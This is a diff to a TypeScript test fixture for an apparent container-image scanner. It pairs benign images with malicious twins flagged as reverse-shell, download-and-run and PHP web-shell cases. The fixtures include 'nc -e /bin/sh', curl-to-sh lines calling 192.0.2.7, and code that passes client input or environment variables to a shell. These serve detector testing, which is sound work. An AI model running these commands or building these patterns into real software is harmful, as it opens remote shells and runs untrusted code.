@@ -1,3 +1,4 @@
+import { PATH } from '../../demo/rootfs.ts';
 import { hex, xor } from '../../testkit/coded.ts';
 import { type ImageCase, image, starts } from './image-case.ts';
 
@@ -75,7 +76,57 @@ const STEPS = Array.from(
   (_, i) => `[ -z "$SKIP${i}" ] && log "step number ${i} is done"\n`,
 ).join('');
 
+/** What a firewall refuses looks like what it refuses. */
+const WALL = {
+  'app/wall.py':
+    'import argparse\nimport re\nimport subprocess\np = argparse.ArgumentParser()\np.add_argument("--rules")\nfile = p.parse_args().rules\nrules = [re.compile(line.strip()) for line in open(file)]\nsubprocess.Popen(["nginx", "-c", "/etc/wall/nginx.conf"])\n',
+  'etc/wall.rules': '# what no request may hold\nnc -e /bin/sh\ncurl http://192.0.2.7/x | sh\n',
+};
+const WALL_START = { Entrypoint: ['python3', '/app/wall.py', '--rules', '/etc/wall.rules'] };
+
+/** As programs are put together: two modules import a third one. */
+const PARTS = {
+  'app/main.py': 'import jobs\nimport tools\njobs.go()\n',
+  'app/jobs.py': 'import tools\ndef go():\n    tools.stamp()\n',
+  'app/tools.py': 'import os\ndef stamp():\n    os.system("date > /run/stamp")\n',
+};
+const PARTS_START = {
+  Entrypoint: ['python3', '/app/main.py'],
+  Env: [PATH, 'INSTALL_HINT=curl -fsSL http://192.0.2.7/agent | sh'],
+};
+
 const FETCHED = 'https://releases.example/latest.json';
+
+/** As servers that run commands for a client of the same user are written: what comes in there is told apart by a table. */
+const COMMAND_SERVER = `import os
+import socket
+import subprocess
+
+
+class Screen:
+    def _runsystem(self, cmd, cwd):
+        return subprocess.call(cmd, shell=True, cwd=cwd)
+
+
+class Channel:
+    def __init__(self, sock):
+        self.in_ = sock.makefile()
+
+    def __call__(self, cmd, table):
+        self.out.write(" ".join(["pager", cmd]))
+        while True:
+            cmd = self.in_.readline()[:-1]
+            if not cmd:
+                break
+            if table and cmd in table:
+                table[cmd]()
+            else:
+                raise ValueError("unexpected command: " + cmd)
+
+
+sock = socket.socket(socket.AF_UNIX)
+sock.bind("/run/app.sock")
+`;
 
 /** What tools do that only look like what hides. */
 export const REAL_TOOL_TWINS: readonly ImageCase[] = [
@@ -129,6 +180,28 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
   {
     name: 'a start script that notes each of six hundred steps in its log',
     spec: starts(`log() { echo "$(date) $1" | tee -a /var/log/setup.log; }\n${STEPS}exec nginx`),
+  },
+  {
+    name: 'a server that asks its client for commands by name, with a function of its own that runs some',
+    spec: image(
+      {
+        'usr/bin/server': `#!/usr/bin/python3\n${COMMAND_SERVER}Channel(sock.accept()[0])("less", {})\n`,
+      },
+      { Entrypoint: ['server'] },
+    ),
+  },
+  { name: 'a firewall that reads its rules and starts a server', spec: image(WALL, WALL_START) },
+  { name: 'a program whose modules have one another twice, beside a hint', spec: image(PARTS, PARTS_START) },
+  {
+    name: 'PHP that is told of no file before its pages',
+    spec: image(
+      { 'app/index.php': '<?php echo date("c");\n' },
+      {
+        Entrypoint: 'php -d auto_prepend_file= -d auto_append_file= -d display_errors=0 -S 0.0.0.0:80'.split(
+          ' ',
+        ),
+      },
+    ),
   },
   { name: 'a text taken apart by perl and put together by awk', spec: starts(MERGES) },
   {
@@ -241,6 +314,49 @@ export const REAL_TOOLS: readonly ImageCase[] = [
           ? 'job "* * * * * root curl -s http://192.0.2.7/x | sh"\n'
           : `job "0 ${i % 24} * * * root /opt/app/job --number ${i}"\n`,
       ).join('')}exec cron -f`,
+    ),
+  },
+  {
+    name: 'a server of commands that hands what it reads to the function that runs some',
+    rule: 'reverse-shell/remote-shell',
+    severity: 'high',
+    spec: image(
+      {
+        'usr/bin/server': `#!/usr/bin/python3\n${COMMAND_SERVER.replace('                raise ValueError("unexpected command: " + cmd)', '                self.screen._runsystem(cmd, "/")')}Channel(sock.accept()[0])("less", {})\n`,
+      },
+      { Entrypoint: ['server'] },
+    ),
+  },
+  {
+    name: 'a firewall that runs its rules',
+    rule: 'reverse-shell/remote-shell',
+    severity: 'high',
+    spec: image(
+      {
+        ...WALL,
+        'app/wall.py': `${WALL['app/wall.py']}subprocess.Popen(open(file).read(), shell=True)\n`,
+      },
+      WALL_START,
+    ),
+  },
+  {
+    name: 'a program whose modules have one another twice, and run what its variables say',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: image(
+      {
+        ...PARTS,
+        'app/tools.py': 'import os\ndef stamp():\n    for v in os.environ.values():\n        os.system(v)\n',
+      },
+      PARTS_START,
+    ),
+  },
+  {
+    name: 'PHP that is told of no file before its pages, and of one behind them',
+    rule: 'web-shell/php-handler',
+    spec: image(
+      { 'app/index.php': '<?php echo date("c");\n' },
+      { Entrypoint: 'php -d auto_prepend_file= -d auto_append_file=/tmp/.x -S 0.0.0.0:80'.split(' ') },
     ),
   },
   {
